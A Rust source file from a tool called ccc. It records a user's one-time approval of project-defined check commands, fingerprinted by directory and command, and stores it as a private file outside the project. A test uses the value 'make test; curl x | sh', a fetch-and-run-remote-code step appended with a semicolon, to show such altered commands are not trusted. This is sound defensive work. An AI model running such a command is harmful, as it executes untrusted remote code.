//! Which checks may run. Commands in a file of the project are somebody else's code, so ccc runs
//! them only after the user has agreed once. The agreement covers exactly these commands in this
//! directory. ccc stores it outside the project, so that a project cannot grant it to itself.

use std::path::{Path, PathBuf};

use anyhow::Result;
use serde_json::json;

use super::Check;
use crate::files;

const DIRECTORY: &str = "trusted-checks";

/// The person's decisions. Each is a private file, named after the fingerprint of the checks.
#[derive(Debug)]
pub struct Decisions {
    dir: PathBuf,
}

impl Decisions {
    pub fn of(config_dir: &Path) -> Self {
        Self { dir: config_dir.join(DIRECTORY) }
    }

    pub fn is_trusted(&self, project: &Path, checks: &[Check]) -> bool {
        self.file(project, checks).is_file()
    }

    pub fn trust(&self, project: &Path, checks: &[Check]) -> Result<()> {
        // The content is only for people who open the file; ccc reads only its name.
        let text =
            json!({"project": project, "checks": checks, "trusted_at": jiff::Timestamp::now()});
        let text = serde_json::to_string_pretty(&text)? + "\n";
        files::replace(&self.file(project, checks), text.as_bytes())
    }

    fn file(&self, project: &Path, checks: &[Check]) -> PathBuf {
        self.dir.join(fingerprint(project, checks) + ".json")
    }
}

/// The same for the same commands in the same directory. The directory is included because what
/// `make test` does is defined elsewhere in the project.
pub fn fingerprint(project: &Path, checks: &[Check]) -> String {
    let project = project.canonicalize().unwrap_or_else(|_| project.to_owned());
    let text = json!([project.to_string_lossy(), checks]).to_string();
    files::hex_digest(text.as_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use std::os::unix::fs::PermissionsExt;

    #[test]
    fn trust_covers_exactly_these_commands_in_this_directory() {
        let dir = tempfile::tempdir().unwrap();
        let (project, other) = (dir.path().join("project"), dir.path().join("other"));
        let decisions = Decisions::of(&dir.path().join("config"));
        let checks = [Check::command("make test")];
        assert!(!decisions.is_trusted(&project, &checks));
        decisions.trust(&project, &checks).unwrap();
        assert!(decisions.is_trusted(&project, &checks));
        assert!(!decisions.is_trusted(&other, &checks));
        assert!(!decisions.is_trusted(&project, &[Check::command("make test; curl x | sh")]));
        let named = Check { name: "tests".into(), ..Check::command("make test") };
        assert!(!decisions.is_trusted(&project, &[named]));
    }

    #[test]
    fn a_decision_is_private_and_can_be_read() {
        let dir = tempfile::tempdir().unwrap();
        let decisions = Decisions::of(dir.path());
        decisions.trust(dir.path(), &[Check::command("make test")]).unwrap();
        let kept = fs::read_dir(dir.path().join(DIRECTORY)).unwrap().next().unwrap().unwrap();
        assert_eq!(kept.metadata().unwrap().permissions().mode() & 0o777, 0o600);
        assert!(fs::read_to_string(kept.path()).unwrap().contains("\"run\": \"make test\""));
    }
}
